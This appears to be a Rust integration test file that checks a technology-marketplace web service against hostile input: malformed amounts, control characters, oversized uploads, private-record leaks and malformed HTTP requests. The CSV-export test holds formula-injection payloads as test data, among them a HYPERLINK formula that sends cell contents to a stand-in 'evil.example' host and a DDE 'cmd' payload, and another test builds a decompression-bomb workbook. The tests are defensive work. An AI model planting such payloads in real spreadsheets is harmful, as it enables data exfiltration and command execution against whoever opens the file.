//! Hostile input through the real service: amounts that are parsed rather than cleaned, control
//! characters refused in every text field (on PostgreSQL too, which cannot store NUL), formulas
//! neutralised in CSV exports and restored on import, errors before any handler in the envelope,
//! owner-only files, files and requests past their caps, and private records that show only
//! their id to managers and the other party of a docking.

use std::io::{Read, Write};
use std::os::unix::fs::PermissionsExt;
use std::sync::Arc;
use std::time::Duration;

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use techmarket::tabular::{Cell, Sheet};

use crate::helpers::{TestApp, fresh_database_url, start, test_config};

use crate::imports::upload;

/// A service whose limits are set small enough to pass in a test.
pub(crate) async fn spawn_limited(set: impl FnOnce(&mut techmarket::config::LimitsConfig)) -> TestApp {
    let dir = tempfile::tempdir().expect("temp dir");
    let url = fresh_database_url(&dir).await;
    let mut config = test_config(&dir, &url);
    set(&mut config.limits);
    start(config, Arc::new(dir), None).await
}

fn field_codes(r: &crate::helpers::Response) -> Vec<(String, String)> {
    r.body["error"]["details"]["fields"]
        .as_array()
        .map(|fields| {
            fields
                .iter()
                .map(|f| (f["field"].as_str().unwrap().to_string(), f["code"].as_str().unwrap().to_string()))
                .collect()
        })
        .unwrap_or_default()
}

/// An enterprise's need and a university's achievement, docked by a manager up to negotiating.
struct Docked {
    e: crate::helpers::Actor,
    u: crate::helpers::Actor,
    m: crate::helpers::Actor,
    need: Value,
    achievement: Value,
    docking: String,
}

async fn docked(app: &TestApp) -> Docked {
    let e = app.enterprise("东营新能源材料有限公司").await;
    let u = app.university("中国石油大学(华东)").await;
    let m = app.manager().await;
    let need = app.create_need(&e, json!({})).await;
    let achievement = app.create_achievement(&u, json!({})).await;
    let docking =
        crate::transfers::negotiating(app, &m, need["id"].as_str().unwrap(), achievement["id"].as_str().unwrap()).await;
    Docked { e, u, m, need, achievement, docking }
}

#[tokio::test]
async fn amounts_with_stray_commas_are_refused_and_nothing_is_signed() {
    let app = crate::helpers::spawn_app().await;
    let Docked { m, docking, .. } = docked(&app).await;
    for amount in ["12,5", "1,2,3.4,5", ",,1,,", "1234,567.00", "1,23", "12.5.0", "1e3"] {
        let contract = json!({"contract_type": "transfer", "amount": amount, "signed_on": "2026-11-20"});
        let r = crate::transfers::sign(&app, &m, &docking, contract).await;
        let message = r.assert_error(StatusCode::UNPROCESSABLE_ENTITY, "validation_failed");
        assert_eq!(field_codes(&r), [("amount".to_string(), "invalid_amount".to_string())], "{amount}: {message}");
        assert!(message.contains(amount), "the message quotes what was sent: {message}");
    }
    let r = app.get(&format!("/api/v1/dockings/{docking}"), &m.token).await;
    assert_eq!(r.body["state"], "negotiating", "nothing was signed");
    assert_eq!(crate::transfers::transfer_of(&app, &m.token, &docking).await, Value::Null);

    // Correct thousands separators are read as the number they write.
    let contract = json!({"contract_type": "transfer", "amount": "1,234.50", "signed_on": "2026-11-20"});
    let r = crate::transfers::sign(&app, &m, &docking, contract).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    assert_eq!(crate::transfers::transfer_of(&app, &m.token, &docking).await["amount"], "1234.50");
}

#[tokio::test]
async fn control_characters_are_refused_in_every_text_field_and_nothing_is_written() {
    let app = crate::helpers::spawn_app().await;
    let e = app.enterprise("东营新能源材料有限公司").await;
    let m = app.manager().await;
    let cases = [
        (json!({"title": "碳捕集\u{0}装置"}), "title"),
        (json!({"title": "碳捕集\n装置"}), "title"),
        (json!({"description": "含有响铃\u{7}字符的描述，长度足够长以通过校验。"}), "description"),
        (json!({"keywords": ["二氧化碳", "驱油\u{1b}"]}), "keywords[1]"),
        (json!({"contact": {"name": "刘\u{0}思远", "phone": "13905461202", "email": "l@example.cn"}}), "contact.name"),
        (json!({"targets": "水分\u{0}≤10ppm"}), "targets"),
    ];
    for (overrides, field) in cases {
        let body = crate::helpers::merge(crate::helpers::need_body(), overrides);
        let r = app.post("/api/v1/needs", &e.token, body).await;
        r.assert_error(StatusCode::UNPROCESSABLE_ENTITY, "validation_failed");
        let codes = field_codes(&r);
        assert!(codes.contains(&(field.to_string(), "control_character".to_string())), "{field}: {}", r.text);
    }
    // Line breaks and tabs are text where a field holds paragraphs.
    let need = app
        .create_need(&e, json!({"description": "第一段：现有溶剂水分偏高。\n\t第二段：需要高纯化工艺包。\r\n"}))
        .await;
    assert!(need["description"].as_str().unwrap().contains("\n\t第二段"));
    let r = app.get("/api/v1/needs?limit=100", &e.token).await;
    assert_eq!(r.body["items"].as_array().unwrap().len(), 1, "only the valid need was written: {}", r.body);

    // Docking notes, organisation names and dictionary terms go through the same check.
    let r = app.post("/api/v1/organisations", &app.admin, json!({"name": "坏\u{0}单位", "kind": "enterprise"})).await;
    r.assert_error(StatusCode::UNPROCESSABLE_ENTITY, "validation_failed");
    let r = app.post("/api/v1/dictionary/terms", &app.admin, json!({"word": "碳\u{0}捕集"})).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text);
    let u = app.university("中国石油大学(华东)").await;
    let achievement = app.create_achievement(&u, json!({})).await;
    let r = app
        .post(
            "/api/v1/dockings",
            &m.token,
            json!({"need_id": need["id"], "achievement_id": achievement["id"], "note": "备注\u{0}"}),
        )
        .await;
    r.assert_error(StatusCode::UNPROCESSABLE_ENTITY, "validation_failed");

    // An import row with NUL is refused on its row and column.
    let csv = "需求名称,需求描述,技术领域,需求类型,地区代码\r\n坏\u{0}标题,一段足够长的需求描述文字，说明要解决的问题。,new_energy,tech_breakthrough,370502\r\n";
    let r = upload(&app, &e.token, "library=needs&dry_run=true", "text/csv", csv.as_bytes().to_vec()).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    assert_eq!(r.body["invalid"], 1, "{}", r.body);
    let error = &r.body["errors"][0];
    assert_eq!((error["row"].as_u64(), error["column"].as_str()), (Some(2), Some("需求名称")), "{error}");
    assert_eq!(error["code"], "control_character");
}

#[tokio::test]
async fn exported_csv_cells_never_run_as_formulas_and_import_back_unchanged() {
    let app = crate::helpers::spawn_app().await;
    let e = app.enterprise("东营新能源材料有限公司").await;
    let titles = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")",
        "+86 热泵余热回收",
        "-40℃ 低温密封件",
        "@SUM(A1:A9) 报表工具",
    ];
    for title in titles {
        app.create_need(&e, json!({"title": title, "keywords": ["=cmd|' /C calc'!A0"]})).await;
    }
    let r = app.client.get(app.url("/api/v1/exports/needs?format=csv")).bearer_auth(&e.token).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let bytes = r.bytes().await.unwrap().to_vec();
    let table = techmarket::tabular::read(&bytes, techmarket::tabular::Format::Csv, None).unwrap();
    // What a spreadsheet sees: every cell as written in the file, none starting a formula.
    let raw = String::from_utf8(bytes.clone()).unwrap();
    let mut reader =
        csv::ReaderBuilder::new().has_headers(true).from_reader(raw.trim_start_matches('\u{feff}').as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell starts a formula: {cell}");
        }
    }
    assert!(raw.contains("'=HYPERLINK"), "{raw}");
    // The import reads each cell back to the original text.
    let mut imported: Vec<String> = table
        .rows
        .iter()
        .map(|r| r.cells.iter().find(|(h, _)| h == "需求名称").unwrap().1.as_str().unwrap().to_string())
        .collect();
    imported.sort();
    let mut expected: Vec<String> = titles.iter().map(|t| t.to_string()).collect();
    expected.sort();
    assert_eq!(imported, expected);
    let r = upload(&app, &e.token, "library=needs&dry_run=true", "text/csv", bytes).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let mut reported: Vec<String> =
        r.body["items"].as_array().unwrap().iter().map(|i| i["title"].as_str().unwrap().to_string()).collect();
    reported.sort();
    assert_eq!(reported, expected, "{}", r.body);
}

#[tokio::test]
async fn methods_a_route_does_not_take_get_405_with_allow_in_the_envelope() {
    let app = crate::helpers::spawn_app().await;
    let e = app.enterprise("东营新能源材料有限公司").await;
    let need = app.create_need(&e, json!({})).await;
    let id = need["id"].as_str().unwrap();
    let cases = [
        (Method::TRACE, "/api/v1/needs".to_string(), "GET, POST"),
        (Method::PUT, format!("/api/v1/needs/{id}"), "GET, PATCH"),
        (Method::DELETE, "/api/v1/search".to_string(), "GET"),
        (Method::OPTIONS, "/health".to_string(), "GET"),
        (Method::POST, "/api/v1/openapi.json".to_string(), "GET"),
    ];
    for (method, path, allow) in cases {
        let r = app.send(method.clone(), &path, Some(&e.token), None).await;
        let message = r.assert_error(StatusCode::METHOD_NOT_ALLOWED, "method_not_allowed");
        assert!(message.contains(method.as_str()), "{message}");
        assert_eq!(r.headers.get("allow").and_then(|v| v.to_str().ok()), Some(allow), "{method} {path}");
    }
    let r = app.send(Method::TRACE, "/api/v1/nothing-here", Some(&e.token), None).await;
    r.assert_error(StatusCode::NOT_FOUND, "route_not_found");
}

#[tokio::test]
async fn everything_under_the_data_directory_is_the_owners_alone() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    // A data directory left by an older version, readable by all.
    std::fs::create_dir_all(data.join("index")).unwrap();
    std::fs::write(data.join("demo-tokens.env"), "export TM_ADMIN=old\n").unwrap();
    std::fs::set_permissions(&data, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(data.join("demo-tokens.env"), std::fs::Permissions::from_mode(0o644)).unwrap();
    let url = format!("sqlite://{}", data.join("techmarket.db").display());
    let mut config = test_config(&dir, &url);
    config.data.dir = data.clone();
    let app = start(config.clone(), Arc::new(dir), None).await;
    let e = app.enterprise("东营新能源材料有限公司").await;
    app.create_need(&e, json!({})).await;
    app.search.catch_up().await.unwrap();
    let seeded = techmarket::demo::seed(&app.context).await.unwrap();
    techmarket::demo::print_tokens(&seeded, &config, 8080).unwrap();

    let mut seen = 0;
    let mut stack = vec![data.clone()];
    while let Some(path) = stack.pop() {
        // The indexer may replace a file of the index while the walk is on its way.
        let Ok(meta) = std::fs::symlink_metadata(&path) else { continue };
        let mode = meta.permissions().mode() & 0o777;
        if meta.is_dir() {
            assert_eq!(mode, 0o700, "{}", path.display());
            stack.extend(std::fs::read_dir(&path).into_iter().flatten().flatten().map(|e| e.path()));
        } else {
            assert_eq!(mode, 0o600, "{}", path.display());
        }
        seen += 1;
    }
    assert!(seen > 5, "the database, its journal, the index and the tokens were checked ({seen})");
    assert!(std::fs::read_to_string(data.join("demo-tokens.env")).unwrap().contains("TM_ADMIN"));
    assert!(data.join("techmarket.db").exists());
}

/// An XLSX whose second column holds a long text that differs a little per row (so the shared
/// strings do not fold it): small packed, large unpacked.
fn compressible_workbook(rows: usize) -> Vec<u8> {
    let mut sheet_rows = Vec::new();
    for i in 0..rows {
        sheet_rows.push(vec![
            Cell::Text(format!("耐盐水稻新品种{i}")),
            Cell::Text("现代农业与盐碱地利用".into()),
            Cell::Text("新品种".into()),
            Cell::Text(format!(
                "第{i}号：{}",
                "耐盐碱、抗倒伏、亩产六百公斤以上的水稻新品种，适合黄河三角洲盐碱地。".repeat(40)
            )),
        ]);
    }
    let sheet = Sheet {
        name: "成果".into(),
        header: vec!["成果名称".into(), "技术领域".into(), "成果类型".into(), "成果简介".into()],
        rows: sheet_rows,
    };
    techmarket::tabular::xlsx(&[sheet]).unwrap()
}

#[tokio::test]
async fn files_past_the_caps_are_refused_before_they_are_held_in_memory() {
    let app = spawn_limited(|l| {
        l.xlsx_max_unpacked_bytes = 2 * 1024 * 1024;
        l.import_max_rows = 50;
        l.import_max_cells = 1_000;
        l.import_max_bytes = 4 * 1024 * 1024;
    })
    .await;
    let u = app.university("中国石油大学(华东)").await;
    let xlsx = techmarket::tabular::XLSX_TYPE;

    // A workbook that unpacks past the cap (packed it is a small fraction of it).
    let bomb = compressible_workbook(2_000);
    assert!(bomb.len() < 512 * 1024, "packed: {} bytes", bomb.len());
    let r = upload(&app, &u.token, "library=achievements&dry_run=true", xlsx, bomb).await;
    let message = r.assert_error(StatusCode::PAYLOAD_TOO_LARGE, "file_too_large");
    assert!(message.contains("2 MiB"), "{message}");

    // Rows past the cap, in each format (with every required column: the columns are checked
    // first, then the rows as they are read).
    let r = upload(&app, &u.token, "library=achievements&dry_run=true", xlsx, compressible_workbook(60)).await;
    assert!(r.assert_error(StatusCode::PAYLOAD_TOO_LARGE, "file_too_large").contains("50"));
    let mut csv = String::from("成果名称,成果简介,技术领域,成果类型\r\n");
    for i in 0..51 {
        csv.push_str(&format!("成果{i},简介,现代农业,新品种\r\n"));
    }
    let r = upload(&app, &u.token, "library=achievements&dry_run=true", "text/csv", csv.into_bytes()).await;
    assert!(r.assert_error(StatusCode::PAYLOAD_TOO_LARGE, "file_too_large").contains("50"));
    let lines: String = (0..51)
        .map(|i| format!("{{\"title\": \"成果{i}\", \"abstract\": \"简介\", \"field\": \"现代农业\", \"achievement_type\": \"新品种\"}}\n"))
        .collect();
    let r =
        upload(&app, &u.token, "library=achievements&dry_run=true", "application/x-ndjson", lines.into_bytes()).await;
    r.assert_error(StatusCode::PAYLOAD_TOO_LARGE, "file_too_large");
    // Cells past the cap: 40 rows of 30 columns.
    let mut wide = ["成果名称", "成果简介", "技术领域", "成果类型"].join(",");
    wide.push_str(&(4..30).map(|c| format!(",列{c}")).collect::<String>());
    wide.push_str("\r\n");
    for _ in 0..40 {
        wide.push_str(&vec!["x"; 30].join(","));
        wide.push_str("\r\n");
    }
    let r = upload(&app, &u.token, "library=achievements&dry_run=true", "text/csv", wide.into_bytes()).await;
    r.assert_error(StatusCode::PAYLOAD_TOO_LARGE, "file_too_large");
    // A body declared past the byte cap is refused before it is read.
    let r = upload(&app, &u.token, "library=achievements&dry_run=true", "text/csv", vec![b'a'; 5 * 1024 * 1024]).await;
    r.assert_error(StatusCode::PAYLOAD_TOO_LARGE, "payload_too_large");
    // Within the caps the same kind of file is read.
    let r = upload(&app, &u.token, "library=achievements&dry_run=true", xlsx, compressible_workbook(3)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    assert_eq!(r.body["rows"], 3);
}

#[tokio::test]
async fn exports_past_the_row_cap_are_refused_and_heavy_work_waits_its_turn() {
    let app = spawn_limited(|l| {
        l.export_max_rows = 3;
        l.heavy_concurrency = 1;
        l.retry_after_secs = 7;
    })
    .await;
    let e = app.enterprise("东营新能源材料有限公司").await;
    for (title, field) in [
        ("余热回收", "new_energy"),
        ("光伏清洗", "new_energy"),
        ("储能温控", "new_energy"),
        ("焊接机器人", "intelligent_manufacturing"),
    ] {
        app.create_need(&e, json!({"title": format!("{title}技术需求"), "field": field})).await;
    }
    let r = app.get("/api/v1/exports/needs?format=xlsx", &e.token).await;
    let message = r.assert_error(StatusCode::UNPROCESSABLE_ENTITY, "export_too_large");
    assert!(message.contains('4') && message.contains('3'), "{message}");
    let r = app
        .client
        .get(app.url("/api/v1/exports/needs?format=xlsx&field=new_energy"))
        .bearer_auth(&e.token)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let table = techmarket::tabular::read(&r.bytes().await.unwrap(), techmarket::tabular::Format::Xlsx, None).unwrap();
    assert_eq!(table.rows.len(), 3);

    // An import whose upload has begun holds the one permit; the next heavy request is told to
    // come back, in the envelope, with Retry-After; once the upload ends the permit is free.
    let address = app.address.trim_start_matches("http://").to_string();
    let csv = "需求名称,需求描述,技术领域,需求类型\r\n";
    let mut holder = None;
    for _ in 0..50 {
        // The export above gives its permit back when its stream is dropped, a moment after
        // its last byte: try until this upload is the one holding it.
        let mut slow = std::net::TcpStream::connect(&address).unwrap();
        write!(
            slow,
            "POST /api/v1/imports?library=needs&dry_run=true HTTP/1.1\r\nHost: {address}\r\nAuthorization: Bearer {}\r\nContent-Type: text/csv\r\nContent-Length: {}\r\n\r\n",
            e.token,
            csv.len() + 200
        )
        .unwrap();
        slow.write_all(csv.as_bytes()).unwrap();
        slow.flush().unwrap();
        tokio::time::sleep(Duration::from_millis(100)).await;
        slow.set_nonblocking(true).unwrap();
        let answered = slow.read(&mut [0u8; 64]).is_ok();
        slow.set_nonblocking(false).unwrap();
        if !answered {
            holder = Some(slow);
            break;
        }
    }
    let mut slow = holder.expect("an upload got the permit");
    let mut busy = None;
    for _ in 0..100 {
        let r = app.get("/api/v1/exports/needs?field=new_energy", &e.token).await;
        if r.status == StatusCode::SERVICE_UNAVAILABLE {
            busy = Some(r);
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let busy = busy.expect("the second heavy request was refused while the first held the permit");
    busy.assert_error(StatusCode::SERVICE_UNAVAILABLE, "busy");
    assert_eq!(busy.headers.get("retry-after").and_then(|v| v.to_str().ok()), Some("7"));
    // Light requests are not held back.
    assert_eq!(app.get("/api/v1/needs", &e.token).await.status, StatusCode::OK);
    let filler = "余热回收,一段足够长的需求描述文字，说明要解决的问题。,new_energy,tech_breakthrough\r\n";
    let mut rest = filler.repeat(10).into_bytes();
    rest.truncate(200);
    slow.write_all(&rest).unwrap();
    slow.flush().unwrap();
    let mut answer = Vec::new();
    slow.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let mut buf = [0u8; 4096];
    while !answer.windows(4).any(|w| w == b"\r\n\r\n") {
        let n = slow.read(&mut buf).unwrap();
        assert!(n > 0, "the slow import got no answer");
        answer.extend_from_slice(&buf[..n]);
    }
    drop(slow);
    let mut ok = false;
    for _ in 0..100 {
        if app.get("/api/v1/exports/needs?field=new_energy", &e.token).await.status == StatusCode::OK {
            ok = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert!(ok, "the permit was given back");
}

#[tokio::test]
async fn a_record_made_private_shows_only_its_id_to_managers_and_the_other_party() {
    let app = crate::helpers::spawn_app().await;
    let Docked { e, u, m, need, achievement, docking } = docked(&app).await;
    let need_id = need["id"].as_str().unwrap();
    let path = format!("/api/v1/dockings/{docking}");
    let r = app.get(&path, &u.token).await;
    assert_eq!(r.body["need"]["title"], need["title"], "introduced: the university reads the need");

    // The enterprise makes its need private.
    let r = app.patch(&format!("/api/v1/needs/{need_id}"), &e.token, json!({"visibility": "private"}), Some(1)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    for viewer in [&m, &u] {
        let r = app.get(&path, &viewer.token).await;
        assert_eq!(r.status, StatusCode::OK, "the docking stays: {}", r.text);
        assert_eq!(r.body["state"], "negotiating");
        let side = &r.body["need"];
        assert_eq!((side["id"].as_str(), side["private"].as_bool()), (Some(need_id), Some(true)), "{side}");
        assert!(side["title"].is_null() && side["contact"].is_null(), "only the id is shown: {side}");
        assert!(!r.text.contains(need["title"].as_str().unwrap()), "the title appears nowhere: {}", r.text);
        assert!(!r.text.contains("13905461202"), "nor the contact: {}", r.text);
        app.get(&format!("/api/v1/needs/{need_id}"), &viewer.token)
            .await
            .assert_error(StatusCode::NOT_FOUND, "not_found");
        let listing = app.get("/api/v1/dockings", &viewer.token).await;
        assert!(!listing.text.contains(need["title"].as_str().unwrap()), "{}", listing.text);
    }
    // The owner still sees everything; the achievement side is unchanged for the enterprise.
    let r = app.get(&path, &e.token).await;
    assert_eq!(r.body["need"]["title"], need["title"]);
    assert_eq!(r.body["need"]["private"], false);
    assert_eq!(r.body["achievement"]["title"], achievement["title"]);
    let r =
        app.client.get(app.url("/api/v1/exports/dockings?format=jsonl")).bearer_auth(&m.token).send().await.unwrap();
    let text = r.text().await.unwrap();
    assert!(text.contains(&docking) && !text.contains(need["title"].as_str().unwrap()), "{text}");

    // After signing, the transfer shows the private side by id only as well.
    let contract = json!({"contract_type": "transfer", "amount": "100", "signed_on": "2026-11-20"});
    assert_eq!(crate::transfers::sign(&app, &m, &docking, contract).await.status, StatusCode::OK);
    for viewer in [&m, &u] {
        let t = crate::transfers::transfer_of(&app, &viewer.token, &docking).await;
        assert_eq!((t["need"]["private"].as_bool(), t["need"]["title"].as_str()), (Some(true), Some("")), "{t}");
    }
    let t = crate::transfers::transfer_of(&app, &e.token, &docking).await;
    assert_eq!(t["need"]["title"], need["title"]);
}

/// Sends raw bytes and reads the answer until the server closes the connection.
fn raw_exchange(app: &TestApp, request: &[u8]) -> (u16, Value, String) {
    let address = app.address.trim_start_matches("http://");
    let mut stream = std::net::TcpStream::connect(address).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    // The server may answer and close before it has read everything: a failed write is fine.
    let _ = stream.write_all(request);
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
    let text = String::from_utf8_lossy(&answer).to_string();
    let status = text.get(9..12).and_then(|s| s.parse().ok()).unwrap_or(0);
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    assert!(head.to_ascii_lowercase().contains("content-type: application/json"), "{head}");
    let request_id = head
        .lines()
        .find_map(|l| l.to_ascii_lowercase().strip_prefix("x-request-id: ").map(str::to_string))
        .unwrap_or_default();
    let body: Value = serde_json::from_str(body).unwrap_or(Value::Null);
    assert_eq!(body["error"]["request_id"].as_str(), Some(request_id.as_str()), "{text}");
    (status, body, text)
}

#[tokio::test]
async fn requests_the_http_layer_cannot_read_are_answered_in_the_envelope() {
    let app = crate::helpers::spawn_app().await;
    let e = app.enterprise("东营新能源材料有限公司").await;
    let long_url = format!("GET /api/v1/search?q={} HTTP/1.1\r\nHost: x\r\n\r\n", "碳".repeat(25_000));
    let huge_header = format!("GET /api/v1/needs HTTP/1.1\r\nHost: x\r\nX-Big: {}\r\n\r\n", "b".repeat(140_000));
    let many_headers = format!(
        "GET /api/v1/needs HTTP/1.1\r\nHost: x\r\n{}\r\n",
        (0..100).map(|i| format!("X-H{i}: 1\r\n")).collect::<String>()
    );
    let cases = [
        (long_url.into_bytes(), 414, "uri_too_long"),
        (huge_header.into_bytes(), 431, "headers_too_large"),
        (many_headers.into_bytes(), 431, "headers_too_large"),
        (b"GARBAGE\r\n\r\n".to_vec(), 400, "malformed_request"),
        (b"GET /api/v1/needs HTTP/1.1\r\nHost: x\r\nContent-Length: abc\r\n\r\n".to_vec(), 400, "malformed_request"),
    ];
    for (request, status, code) in cases {
        let (got, body, text) = raw_exchange(&app, &request);
        assert_eq!((got, body["error"]["code"].as_str()), (status, Some(code)), "{}", &text[..text.len().min(400)]);
        assert!(!body["error"]["message"].as_str().unwrap().is_empty());
    }
    // The service goes on answering.
    assert_eq!(app.get("/api/v1/needs", &e.token).await.status, StatusCode::OK);
}
